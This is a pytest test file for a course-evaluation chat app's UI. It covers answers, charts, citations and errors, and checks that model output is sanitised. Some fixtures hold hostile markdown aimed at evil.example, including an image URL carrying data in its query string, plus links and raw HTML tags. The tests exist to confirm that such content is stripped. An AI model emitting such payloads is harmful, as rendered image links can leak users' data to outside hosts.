"""The chat page run by AppTest against the live API over the loaded sample corpus."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt

from devtools.processes import AppServer, free_port
from tests.conftest import LiveServer
from tests.rag.answer.canned_llm import Canned, fake_llm_app
from tests.ui.apptest import app, charts
from tests.ui.live import LoadedApi
from ui.answer_view import answer_markdown, citation_line, model_markdown
from ui.text import escape_markdown

SECTIONS = "How many sections of PSYC1101 were taught?"


def test_first_visit_offers_example_questions(ui_env: LoadedApi) -> None:
    at = app()
    assert not at.exception
    assert at.title[0].value == "Ask TraceLens"
    examples = [b for b in at.button if b.key and b.key.startswith("example_")]
    assert len(examples) == 4
    [workload] = [b for b in examples if b.label.startswith("What do students say")]
    workload.click().run()
    assert not at.exception and not at.error
    [user, assistant] = at.chat_message
    assert user.markdown[0].value == workload.label
    assert "PSYC1101" in assistant.markdown[0].value
    assert not [b for b in at.button if b.key and b.key.startswith("example_")]


def test_numbers_stream_with_facts_and_n_and_follow_ups_keep_the_conversation(
    ui_env: LoadedApi,
) -> None:
    at = app()
    at.chat_input[0].set_value("How many sections of PSYC1101 were taught?").run()
    assert not at.exception and not at.error
    answer = at.chat_message[1]
    assert answer.markdown[0].value.startswith("PSYC1101: **3** sections in the reports.")
    facts = answer.dataframe[0].value
    assert list(facts.columns) == ["Fact", "Value", "N", "Source"]
    assert facts.iloc[0]["Value"] == "3"
    conversation = at.session_state.conversation_id
    assert conversation

    at.chat_input[0].set_value("and in Spring 2019?").run()
    assert at.session_state.conversation_id == conversation
    assert len(at.chat_message) == 4
    assert "**3**" in at.chat_message[3].markdown[0].value


def test_a_trend_answer_gets_a_chart_with_labelled_axes(ui_env: LoadedApi) -> None:
    at = app()
    at.chat_input[0].set_value("How did the overall rating of CS7180 change over time?").run()
    assert not at.exception
    [spec] = charts(at.chat_message[1])
    assert spec["mark"]["type"] == "line"
    assert spec["encoding"]["x"]["title"] == "Term"
    assert spec["encoding"]["y"]["title"].startswith("Mean score")
    terms = [row["term"] for row in spec["rows"]]
    truths = sorted(
        (t for t in ui_env.truths if t["course"]["code"] == "CS7180"),
        key=lambda t: t["term"]["year"],
    )
    assert terms == [t["term"]["label"] for t in truths]


def test_opinions_show_themes_and_quoted_comments_with_citations(ui_env: LoadedApi) -> None:
    at = app()
    at.chat_input[0].set_value("What do students say about the workload in PSYC1101?").run()
    assert not at.exception
    answer = at.chat_message[1]
    quotes = answer.expander
    assert quotes, "citations are shown as expanders"
    texts = {
        c["text"] for t in ui_env.truths if t["course"]["code"] == "PSYC1101" for c in t["comments"]
    }
    for quote in quotes:
        assert quote.label.split(" · ")[0].endswith("PSYC1101")
        body = quote.markdown[0].value.removeprefix("> ")
        assert body in {escape_markdown(t) for t in texts}  # student text is never markup
        assert "section 0" in quote.caption[0].value and "prompt:" in quote.caption[0].value
    assert any(spec["encoding"]["color"]["title"] == "Tone" for spec in charts(answer))


def test_an_unreachable_api_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
    dead = f"http://127.0.0.1:{free_port()}"
    monkeypatch.setenv("TRACELENS_UI_API_URL", dead)
    at = app()
    at.chat_input[0].set_value("How many sections of PSYC1101 were taught?").run()
    assert not at.exception
    [error] = at.error
    assert error.value.startswith(f"The TraceLens API at {dead} is not reachable")
    at.run()  # the failed turn stays in the history as the same error, not a traceback
    assert [e.value for e in at.error] == [error.value]


def test_an_api_error_shows_its_message(ui_env: LoadedApi) -> None:
    at = app()
    at.session_state.conversation_id = "00000000-0000-0000-0000-000000000000"
    at.chat_input[0].set_value("and then?").run()
    assert not at.exception
    [error] = at.error
    assert error.value.startswith("The API refused the request (404): ")
    assert "{" not in error.value


def test_each_answer_shows_its_scope_and_clear_scope_drops_it(ui_env: LoadedApi) -> None:
    at = app()
    at.chat_input[0].set_value("How many sections of PSYC1101 were taught?").run()
    assert at.chat_message[1].caption[0].value == "Scope: PSYC1101"
    at.chat_input[0].set_value("and in Spring 2019?").run()
    assert at.chat_message[3].caption[0].value == "Scope: PSYC1101 · Spring 2019"
    [clear] = [b for b in at.button if b.key and b.key.startswith("clear_scope_")]
    clear.click().run()
    assert at.session_state.fresh
    assert not [b for b in at.button if b.key and b.key.startswith("clear_scope_")]
    at.chat_input[0].set_value("How many sections were taught?").run()
    assert not at.exception and not at.error
    assert at.chat_message[5].caption[0].value == "Scope: all reports"
    assert not at.session_state.fresh


# --- with a model: the canned OpenAI-compatible server behind the same live API ---------------


@pytest.fixture(scope="module")
def canned_llm() -> Iterator[tuple[Canned, str]]:
    canned = Canned()
    with AppServer(fake_llm_app(canned)) as running:
        yield canned, running.url


@pytest.fixture
def llm_env(
    ui_api: LoadedApi, canned_llm: tuple[Canned, str], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Canned]:
    """A second API on the loaded corpus whose answers a model words (the canned server)."""
    canned, url = canned_llm
    canned.reply, canned.requests[:] = "", []
    settings = ui_api.settings.model_copy(
        update={"llm_provider": "openai", "llm_model": "canned-model", "llm_base_url": f"{url}/v1"}
    )
    with LiveServer(settings) as server:
        monkeypatch.setenv("TRACELENS_UI_API_URL", server.url)
        monkeypatch.setenv("TRACELENS_UI_API_KEY", server.admin_key)
        yield canned


def test_a_model_answer_is_shown_once_checked_with_the_facts_meanwhile(llm_env: Canned) -> None:
    llm_env.reply = "PSYC1101 had **3** sections in the reports."
    at = app()
    at.chat_input[0].set_value(SECTIONS).run()
    assert not at.exception and not at.error
    assert llm_env.requests and llm_env.requests[0]["stream"] is True
    answer = at.chat_message[1]
    [status] = answer.status
    assert (status.label, status.state) == ("Checked against the evidence", "complete")
    assert list(status.dataframe[0].value.columns) == ["Fact", "Value", "N", "Source"]
    assert answer.markdown[0].value == "PSYC1101 had **3** sections in the reports."
    assert at.session_state.messages[-1]["answer"]["answerer"] == "openai-chat:canned-model"


def test_a_model_answer_failing_the_check_is_never_shown(llm_env: Canned) -> None:
    llm_env.reply = "PSYC1101 had 3 sections ![x](https://evil.example/p.png?d=PSYC1101)"
    at = app()
    at.chat_input[0].set_value(SECTIONS).run()
    assert not at.exception and not at.error
    answer = at.chat_message[1]
    [status] = answer.status
    assert status.label.startswith("The model's wording failed the evidence check")
    assert answer.markdown[0].value.startswith("PSYC1101: **3** sections in the reports.")
    shown = " ".join(m.value for m in answer.markdown)
    assert "evil" not in shown and "![" not in shown
    assert at.session_state.messages[-1]["answer"]["answerer"] == "extractive-fallback"
    at.run()  # the history shows the same checked answer
    assert (
        at.chat_message[1].markdown[0].value.startswith("PSYC1101: **3** sections in the reports.")
    )


HOSTILE = (
    "Jane Doe leads [see](https://evil.example/a) ![i](https://evil.example/p.png) "
    "[ref][1] <img src=https://evil.example/q.png> <https://evil.example/b> "
    "https://evil.example/c www.evil.example leak@evil.example **4.71** *kept*\n\n"
    "[1]: https://evil.example/d"
)


def test_model_text_renders_without_links_images_or_html() -> None:
    html = MarkdownIt("commonmark").render(model_markdown(HOSTILE))
    assert "<a " not in html and "<img" not in html
    assert "<strong>4.71</strong>" in html and "<em>kept</em>" in html  # markdown still works
    # GFM's autolinks (bare URLs, www., e-mail) cannot form: each is broken by an escape.
    for piece in ("https\\://", "www\\.", "leak\\@"):
        assert piece in model_markdown(HOSTILE)


def test_extractive_text_is_kept_but_cannot_autolink() -> None:
    text = "“see https://evil.example/x” [CS5800-01 Fall 2023, #3]"
    answer = {"answer": text, "answerer": "extractive"}
    assert answer_markdown(answer) == "“see https\\://evil.example/x” [CS5800-01 Fall 2023, #3]"
    assert answer_markdown({**answer, "answerer": "openai-chat:m"}).count("\\[") == 1


def test_uploaded_citation_fields_render_as_text() -> None:
    hostile = "![x](https://evil.example/p.png) [y](https://evil.example) <b>z</b>"
    citation = {
        "course_code": "CS5800",
        "course_title": hostile,
        "term": "Fall 2023",
        "section": "01",
        "instructors": [hostile],
        "prompt": hostile,
        "comment_number": 3,
    }
    for line in (citation_line(citation), citation_line({**citation, "source": "survey"})):
        html = MarkdownIt("commonmark").render(line)
        assert "<a " not in html and "<img" not in html and "<b>" not in html
        assert line.startswith("CS5800 ")
